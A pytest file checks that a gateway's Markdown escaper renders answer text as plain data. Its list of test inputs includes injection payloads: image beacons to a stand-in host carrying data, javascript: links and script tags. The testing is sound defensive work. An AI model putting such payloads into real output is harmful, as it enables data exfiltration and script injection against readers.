"""An answer in Markdown carries data, never markup: real renderers find a table, text and our own links, nothing else."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from querybus_gateway.public.markdown import CELL_LENGTH_MAX, escape_markdown, markdown

QUERY = "0190a5e0-0000-7000-8000-000000000001"
BASE = "http://querybus.internal"
GITHUB = MarkdownIt("gfm-like", {"html": True})
STRICT = MarkdownIt("commonmark", {"html": True}).enable("table")
OF_TEXT = {"paragraph", "text", "softbreak", "inline", "text_special"}
OF_TABLE = {"table", "thead", "tbody", "tr", "th", "td"}
OF_LIST = {"ordered_list", "list_item"}

BARE_ADDRESS = re.compile(r"https?://|www\.|ftp://|[\w.+-]+@[\w-]+\.\w", re.IGNORECASE)
"""What renderers look for in plain text after they have decoded it, as remark's plugin for GitHub's Markdown does."""

ATTACKS = (
    "![a](http://evil.example/?d=1)",
    "![a](//evil.example/x)",
    "![a][b]",
    "[b]: http://evil.example/x",
    "[click](javascript:alert(1))",
    "[x](<data:text/html;base64,AAAA>)",
    "<img src=http://evil.example/x>",
    "<a href='http://evil.example'>x</a>",
    "<!-- x --><script>alert(1)</script>",
    "<http://evil.example>",
    "<bob@evil.example>",
    "http://evil.example/auto",
    "HTTPS://evil.com",
    "www.evil.com/x",
    "evil.com",
    "//evil.com/x",
    "mailto:bob@evil.com",
    "bob@evil.com",
    "ftp://evil.com",
    "xmpp:bob@evil.com/x",
    "`code` **bold** # head",
    "# head",
    "> quoted",
    "- item",
    "+ item",
    "* item",
    "7. item",
    "7) item",
    "---",
    "===",
    "***",
    "_ _ _",
    "~~~",
    "```\nx\n```",
    "    indented",
    "~~struck~~",
    "_under_ __strong__",
    "a | b\n--- | ---\n1 | 2",
    "&#33;[x](http://evil.example)",
    "&lt;img src=x&gt;",
    "http&colon;//evil.com",
    "\\![x](http://evil.example)",
    "\\\\[x](http://evil.example)",
    "a\\|b",
    "line\nbreak\r\n# head\u2028- item",
    "[^1] and [^1]: note",
    "- [ ] task",
)


def elements_of(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from elements_of(token.children or [])


def kinds_in(text: str, renderer: MarkdownIt) -> tuple[set[str], list[str], str]:
    """Return the kinds of elements, the addresses that links and pictures lead to, and all plain text."""
    kinds: set[str] = set()
    addresses: list[str] = []
    plain: list[str] = []
    for token in elements_of(renderer.parse(text)):
        kinds.add(token.type.removesuffix("_open").removesuffix("_close"))
        addresses += [str(token.attrs[name]) for name in ("href", "src") if name in token.attrs]
        plain.append(token.content if token.type in ("text", "text_special") else "\n" if token.nesting else "")
    return kinds, addresses, "".join(plain)


def shown(text: str) -> str:
    """Return what a person reads: without the joiners that nobody sees."""
    return text.replace("\u2060", "")


def assert_is_plain(text: str, of: str, *, allowed: set[str], own_links: int = 0) -> None:
    for renderer in (GITHUB, STRICT):
        kinds, addresses, plain = kinds_in(text, renderer)
        strange = kinds - OF_TEXT - allowed
        assert strange == set(), f"{of!r} becomes {strange} in {text!r}"
        assert all(address.startswith(BASE) for address in addresses), f"{of!r} leads to {addresses}"
        assert len(addresses) == own_links, f"{of!r}: {addresses}"
        assert not BARE_ADDRESS.search(plain), f"{of!r} leaves an address in {plain!r}"


@pytest.mark.parametrize("text", ATTACKS)
def test_a_text_renders_as_itself(text: str) -> None:
    escaped = escape_markdown(text)
    assert_is_plain(escaped, text, allowed=set())
    _, _, plain = kinds_in(escaped, STRICT)
    assert shown(plain).strip() == " ".join(text.split())


@pytest.mark.parametrize("text", ATTACKS)
def test_no_part_of_an_answer_becomes_markup(text: str) -> None:
    table = {
        "outcome": "answered",
        "language": "en",
        "summary": f"The first is {text}.",
        "columns": [{"label": text}, {"label": "n"}],
        "rows": [[text, 1], [f"x {text}", 2]],
        "row_count": 30,
        "connection_label": text,
    }
    own = OF_TABLE | {"link"}
    assert_is_plain(markdown({"id": QUERY, "answer": table}, BASE), text, allowed=own, own_links=1)
    asked = {
        "outcome": "clarification",
        "language": "en",
        "message": f"{text}\n\n{text}",
        "next_step": text,
        "options": [{"text": text}, {"text": text}],
    }
    own = OF_LIST | {"link"}
    assert_is_plain(markdown({"id": QUERY, "answer": asked}, BASE), text, allowed=own, own_links=1)


@given(st.text(alphabet="ab1 .:/\\!@[](){}<>|`*_~#+-=&;\n\t\u2028$\"'", max_size=40))
def test_no_text_at_all_becomes_markup(text: str) -> None:
    assert_is_plain(escape_markdown(text), text, allowed=set())
    in_a_table = f"| a | b |\n| --- | --- |\n| {escape_markdown(text)} | x |"
    assert_is_plain(in_a_table, text, allowed=OF_TABLE)
    cells = [token for token in GITHUB.parse(in_a_table) if token.type == "td_open"]
    assert len(cells) == 2, "a value may not add a cell"


@pytest.mark.parametrize(
    "text",
    ["-5", "1,234.50", "3.5 kg", "order_id", "2025-01-01 10:00", "AT&T", "共 3 行。", "Q1 (so far): +12 %", "a/b"],
)
def test_usual_values_are_left_as_they_are(text: str) -> None:
    assert escape_markdown(text) == text


def test_a_long_cell_is_cut_before_it_is_escaped() -> None:
    assert escape_markdown("*" * 500, CELL_LENGTH_MAX) == "\\*" * CELL_LENGTH_MAX
